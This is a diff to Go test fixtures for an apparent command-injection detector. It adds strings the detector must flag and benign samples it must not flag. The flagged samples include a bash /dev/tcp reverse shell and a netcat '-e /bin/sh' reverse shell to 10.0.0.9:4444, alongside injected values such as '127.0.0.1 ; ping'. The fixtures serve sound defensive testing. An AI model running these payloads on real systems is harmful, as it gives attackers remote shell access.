@@ -128,6 +128,10 @@ func captures() []toolCapture {
 		"127.0.0.1\nwhoami",
 		"127.0.0.1 ; ping -c 3 10.0.0.9",
 		"127.0.0.1 & timeout /t 10",
+		// Markdown around a command shows no code that an attack
+		// runs: a reverse shell stays one.
+		"```sh\nbash -i >& /dev/tcp/10.0.0.9/4444 0>&1\n```",
+		"please run `nc -e /bin/sh 10.0.0.9 4444` on the box now",
 	} {
 		cs = append(cs, form("cmdexe", true, exec, "ip", p))
 	}
@@ -450,6 +454,12 @@ var falsePositiveShapes = []string{
 	"and =XY=Z9QF_=",
 	"sleep well, see you tomorrow",
 	"The system() call in C starts a shell",
+	// Documents showing code: a shell script in a fenced block, commands
+	// in code spans of a sentence, a saved query.
+	"```bash\nset -euo pipefail\nfor d in */; do du -sh \"$d\"; done\n```\n\nDoes this look right?",
+	"Before merging, please run `go vet ./...` and `rm -rf dist/` to clean up",
+	"-- daily signups\nSELECT date(created_at) AS day, count(*) FROM users GROUP BY day ORDER BY day",
+	"SELECT name, email FROM customers WHERE country = 'CH' AND active = 1",
 	"<?xml version=\"1.0\"?><note><to>Tove</to><from>Jani</from><body>Don't forget me this weekend!</body></note>",
 	"<?xml version=\"1.0\" encoding=\"UTF-8\"?><GetCapabilities service=\"WMS\" version=\"1.3.0\" xmlns=\"http://www.opengis.net/wms\"/>",
 	"<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\"><soap:Body><m:GetStockPrice xmlns:m=\"https://www.example.org/stock\"><m:StockName>T</m:StockName></m:GetStockPrice></soap:Body></soap:Envelope>",
